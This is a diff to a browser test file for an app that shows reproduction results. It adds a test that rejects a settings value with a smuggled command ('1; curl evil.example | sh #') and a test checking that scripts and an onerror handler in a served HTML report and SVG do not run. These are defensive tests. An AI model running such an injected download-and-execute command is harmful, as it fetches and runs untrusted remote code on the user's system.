@@ -70,6 +70,10 @@ describe("results of one's own", () => {
       for (const [text, message] of [
         [JSON.stringify(older), "These results are of an older version"],
         ["{}", "claims.json does not hold claims."],
+        [
+          JSON.stringify({ ...own, settings: { ...own.settings, runs: "1; curl evil.example | sh #" } }),
+          "claims.json cannot be read: its settings are not those of a reproduction.",
+        ],
       ]) {
         write(text);
         await again();
@@ -84,5 +88,26 @@ describe("results of one's own", () => {
       await again();
       await page.getByText("1 of 1 claims shown").waitFor();
     });
+  });
+
+  test("have a report that can be read there; of somebody else's, no script runs", async () => {
+    const styled = '<style>h1 { color: rgb(1, 2, 3) }</style><h1>Report</h1><p style="color: rgb(4, 5, 6)">Text</p>';
+    const scripts = "<script>document.title = 'ran'</script><script src='/paper/own.js'></script>";
+    writeFileSync(
+      join(folder, "report.html"),
+      `<!doctype html><title>calm</title>${styled}${scripts}<img src=x onerror="document.title = 'ran'">`,
+    );
+    writeFileSync(join(folder, "own.js"), "document.title = 'ran'");
+    writeFileSync(
+      join(folder, "figures/own.svg"),
+      `<svg xmlns="http://www.w3.org/2000/svg"><script>document.documentElement.id = "ran"</script></svg>`,
+    );
+    const page = await browser.newPage();
+    await page.goto(`${served.address}paper/report.html`, { waitUntil: "networkidle" });
+    const color = (name: string) => page.locator(name).evaluate((element) => getComputedStyle(element).color);
+    expect([await page.title(), await color("h1"), await color("p")]).toEqual(["calm", "rgb(1, 2, 3)", "rgb(4, 5, 6)"]);
+    await page.goto(`${served.address}paper/figures/own.svg`);
+    expect(await page.evaluate(() => document.documentElement.id)).toBe("");
+    await page.close();
   });
 });
